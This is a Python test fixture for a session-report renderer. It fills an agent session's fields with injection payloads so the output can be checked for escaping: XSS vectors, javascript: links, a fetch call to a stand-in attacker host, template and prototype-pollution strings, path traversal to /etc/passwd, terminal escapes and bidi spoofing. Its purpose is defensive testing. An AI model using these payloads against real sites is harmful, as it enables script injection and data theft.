"""Texts that would like to run, load or hide, for every place in a session that holds a text."""

from __future__ import annotations

from tests.report.seed import ReportSeed

import rewake
from rewake.model.content import File, Image, Text, Thinking, ToolCall
from rewake.model.events import (
    AgentEvent,
    AgentIntent,
    Change,
    FileState,
    Outcome,
    RunStart,
    Todo,
    ToolLifecycle,
)

RUN = "window.pwned=1;alert(1);fetch('https://evil.example/x')"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'

MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>-->",
    f"<!-- --!><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'"><svg/onload={RUN}>',
    f"'-{RUN}-'",
    f"</title></style></textarea><script>{RUN}</script>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    f'<details open ontoggle="{RUN}">',
    "<style>body{background:url(https://evil.example/x)}</style>",
    "]]><![CDATA[",
    "{{constructor.constructor('" + RUN + "')()}}",
    "${" + RUN + "}",
    '"__proto__": {"polluted": 1}',
    "\u2028\u2029\u0000\ufeff",
    "&lt;script&gt; &#x3c;script&#x3e;",
)

MARKDOWN = (
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](java\nscript:{RUN})",
    f"[click](&#106;avascript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"[click](vbscript:{RUN})",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/x)",
    "[good](https://example.org/ok)",
    "![picture](https://evil.example/track.png)",
    f"![picture](javascript:{RUN})",
    "![picture](data:image/svg+xml;base64,PHN2Zy8+)",
    f"<javascript:{RUN}>",
    "<https://example.org/auto>",
    f'[ref]\n\n[ref]: javascript:{RUN} "title"',
    f'```html" onclick="{RUN}\n<script>{RUN}</script>\n```',
    f"```<script>{RUN}</script>\ncode\n```",
    f"| a | b |\n| --- | --- |\n| <script>{RUN}</script> | `</script>` |",
    f"# <script>{RUN}</script>",
    "> " * 300 + "deep",
    "[" * 500 + "x" + "](" * 500,
)

HIDING = (
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "user\u202etxt.exe",
    "\u2066isolated\u2069 \u202a\u202b\u202d\u202c",
    "\x08\x08\x08back \x07bell \x9b31m",
    "lone \ud83d surrogate",
    "Z" + "\u0301" * 500 + "algo",
    "x" * 300_000,
)

NAMES = (
    "/p/p\u0430ypal.py",
    "/p/\u202egnp.exe",
    "/p/zero\u200bwidth.py",
    "/p/<img src=x onerror=alert(1)>.py",
    "/p/\u0085new\nline.py",
)

ALL = (*MARKUP, *MARKDOWN, *HIDING)


def attacked(seed: ReportSeed) -> str:
    """A session that has them everywhere."""
    nasty = f"</script><script>{RUN}</script><img src=x onerror={RUN}>\u202e"
    with seed.open(model=nasty, permission_mode=nasty) as session:
        session.metadata(title=nasty, tags=[nasty, "<b>tag</b>"])
        for attack in ALL:
            session.user(attack)
            session.assistant(
                [Thinking(attack), Text(attack)],
                model=f"m-{attack[:200]}",
                usage=rewake.Usage(5_000, 10),
            )
            _call(session, attack)
        _world(session, nasty)
        session.checkpoint("\n\n".join(MARKDOWN), keep=[], trigger=nasty)
        session.terminal(nasty, {"error": nasty})
        return session.session_id


def _call(session: rewake.Session, attack: str) -> None:
    arguments = {"file_path": attack, attack[:300]: {"nested": [attack[:300]]}, "command": attack}
    call = ToolCall("c", attack[:200] or "t", arguments)
    message_id = session.assistant([call])
    call_id = session.record(ToolLifecycle(call.name, "requested", message_id=message_id)).event_id
    session.record(
        ToolLifecycle(
            call.name,
            "resolved",
            call_id,
            message_id,
            resolution=rewake.Resolution("unknown", {attack[:300]: attack}, note=attack),
            result=rewake.Result((Text(attack),)),
            outcome=Outcome(todos=(Todo(attack),)),
        )
    )


def _world(session: rewake.Session, nasty: str) -> None:
    svg = session.blobs.put(SVG.encode())
    html = session.blobs.put(f"<!doctype html><script>{RUN}</script>".encode())
    blocks = (
        Image("image/svg+xml", svg, len(SVG)),
        Image(f'image/png" onerror="{RUN}', html, 100),
        Image("text/html", html, 100),
        Image("image/png", "0" * 64, 100),
        Image("image/png", "../../etc/passwd", 100),
        File(nasty, nasty, html, 100),
    )
    session.append(rewake.Message("user", blocks))
    before = session.blobs.put(b"old </script>\n")
    after = session.blobs.put("\n".join(ALL[:40]).encode("utf-8", "replace"))
    changes = tuple(
        Change(name, FileState("file", before, 10), FileState("file", after, 10)) for name in NAMES
    )
    for kind in ("completed", "failed"):
        call = ToolCall("c", "Edit", {"file_path": NAMES[0]})
        message_id = session.assistant([call])
        session.record(
            ToolLifecycle(
                "Edit",
                kind,
                "",
                message_id,
                outcome=Outcome(changes),
                result=rewake.Result((Text(nasty),)),
            )
        )
    call = ToolCall("c", "Task", {})
    message_id = session.assistant([call])
    agent_id = 'x"><script>'
    session.record(ToolLifecycle("Task", "started", "", message_id, intent=AgentIntent(agent_id)))
    session.record(AgentEvent(agent_id, nasty, nasty, nasty, changes=changes))
    session.record(RunStart(2, nasty, nasty, 1, nasty, cwd=nasty, model=nasty))
    session.transition(nasty, nasty, nasty)
